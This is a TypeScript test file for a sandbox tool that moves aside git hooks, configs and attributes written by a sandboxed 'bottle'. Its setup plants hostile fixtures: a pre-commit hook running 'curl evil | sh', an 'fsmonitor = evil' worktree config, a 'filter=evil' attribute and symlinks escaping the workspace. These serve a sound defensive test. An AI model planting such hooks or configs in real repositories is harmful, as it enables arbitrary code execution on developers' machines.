import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { quarantineBottleGit } from "../src/bottles/bottle-written-git.js";

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", ["-c", "core.hooksPath=/dev/null", "-c", "user.name=T", "-c", "user.email=t@t", ...args], { cwd, encoding: "utf8" });

/**
 * The files are written as a bottle would (its workspace as the host sees
 * it); what was there before the bottle started, and the host controls it
 * could not write, stay as they are. The change time cannot be set back, so
 * "before" is a real wait past the clock slack.
 */
describe("moving aside the git files a bottle wrote", () => {
  let root: string;
  let workspace: string;
  let outside: string;
  let since: Date;
  let result: Awaited<ReturnType<typeof quarantineBottleGit>>;

  beforeAll(async () => {
    root = realpathSync(mkdtempSync(join(tmpdir(), "cb-bottle-git-")));
    workspace = join(root, "workspace");
    outside = join(root, "outside");
    mkdirSync(workspace);
    git(workspace, "init", "-q");
    // The user's, before the bottle: a vendored clone with its own config and hooks, and a repository beside the workspace.
    git(workspace, "init", "-q", "vendor/old");
    writeFileSync(join(workspace, "vendor", "old", ".git", "hooks", "pre-commit"), "#!/bin/sh\n");
    git(root, "init", "-q", "outside");
    await new Promise((resolve) => setTimeout(resolve, 2500));
    since = new Date();

    // The bottle's: a nested repository; a hook rewritten in place in the old clone; a `.git` link to a git directory it made;
    // a `.git` file naming the repository outside (not the bottle's to write); the top's info/attributes; a huge `.git` file.
    git(workspace, "init", "-q", "nested");
    writeFileSync(join(workspace, "vendor", "old", ".git", "hooks", "pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
    git(workspace, "init", "-q", "--bare", ".hidden");
    mkdirSync(join(workspace, "linked"));
    symlinkSync("../.hidden", join(workspace, "linked", ".git"));
    symlinkSync(join(root, "outside", ".git", "config"), join(workspace, ".hidden", "config.worktree"));
    mkdirSync(join(workspace, "pointer"));
    writeFileSync(join(workspace, "pointer", ".git"), `gitdir: ${join(outside, ".git")}\n`);
    writeFileSync(join(workspace, ".git", "info", "attributes"), "* filter=evil\n");
    mkdirSync(join(workspace, "huge"));
    writeFileSync(join(workspace, "huge", ".git"), "x".repeat(2 ** 20));

    // Not the bottle's: a worktree the user (or another bottle's start) makes meanwhile, with claude-bottle's empty config.worktree.
    git(workspace, "commit", "-q", "--allow-empty", "-m", "initial");
    git(workspace, "worktree", "add", "-q", join(root, "meanwhile"));
    writeFileSync(join(workspace, ".git", "worktrees", "meanwhile", "config.worktree"), "");
    // The bottle's: a linked worktree's git directory sent elsewhere, another given config.
    mkdirSync(join(workspace, ".git", "worktrees", "planted"));
    for (const file of ["HEAD", "commondir"]) writeFileSync(join(workspace, ".git", "worktrees", "planted", file), file === "HEAD" ? "ref: refs/heads/x\n" : `${join(root, "outside", ".git")}\n`);
    writeFileSync(join(workspace, ".git", "worktrees", "planted", "config.worktree"), "[core]\n\tfsmonitor = evil\n");

    const controls = [join(workspace, ".git", "config"), join(workspace, ".git", "hooks")];
    result = await quarantineBottleGit({ roots: [workspace], controls }, since);
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  const moved = (gitDir: string) => result.quarantined.find((q) => q.gitDir === gitDir)?.moved.map((m) => m.to.slice(gitDir.length + 1)).sort();

  it("moves a new repository's config, hooks and attributes aside, keeping their content", () => {
    const gitDir = join(workspace, "nested", ".git");
    expect(moved(gitDir)).toEqual(["config.bottle-written", "hooks.bottle-written"]);
    expect(readFileSync(join(gitDir, "config.bottle-written"), "utf8")).toContain("repositoryformatversion");
    expect(git(join(workspace, "nested"), "status", "--porcelain")).toBe("");
  });

  it("moves an old repository's hooks once one hook in them changed, and leaves its old config", () => {
    expect(moved(join(workspace, "vendor", "old", ".git"))).toEqual(["hooks.bottle-written"]);
    expect(existsSync(join(workspace, "vendor", "old", ".git", "config"))).toBe(true);
  });

  it("finds a git directory through a `.git` link, and moves a link itself, never what it names", () => {
    const gitDir = join(workspace, ".hidden");
    expect(moved(gitDir)).toEqual(["config.bottle-written", "config.worktree.bottle-written", "hooks.bottle-written"]);
    expect(lstatSync(join(gitDir, "config.worktree.bottle-written")).isSymbolicLink()).toBe(true);
    expect(existsSync(join(outside, ".git", "config"))).toBe(true);
  });

  it("leaves the pointers of a worktree made meanwhile, and moves those the bottle wrote", () => {
    const meanwhile = join(workspace, ".git", "worktrees", "meanwhile");
    expect(moved(meanwhile)).toBeUndefined();
    expect(existsSync(join(meanwhile, "commondir"))).toBe(true);
    expect(moved(join(workspace, ".git", "worktrees", "planted"))).toEqual(["commondir.bottle-written", "config.worktree.bottle-written"]);
    expect(git(join(root, "meanwhile"), "status", "--porcelain")).toBe("");
  });

  it("leaves the host controls and what lies outside the workspace, but not the top's attributes", () => {
    expect(moved(join(workspace, ".git"))).toEqual(["info/attributes.bottle-written"]);
    expect(existsSync(join(workspace, ".git", "config"))).toBe(true);
    expect(existsSync(join(workspace, ".git", "hooks"))).toBe(true);
    expect(result.quarantined.map((q) => q.gitDir).filter((dir) => dir.startsWith(outside))).toEqual([]);
    expect(result.complete).toBe(true);
  });
});
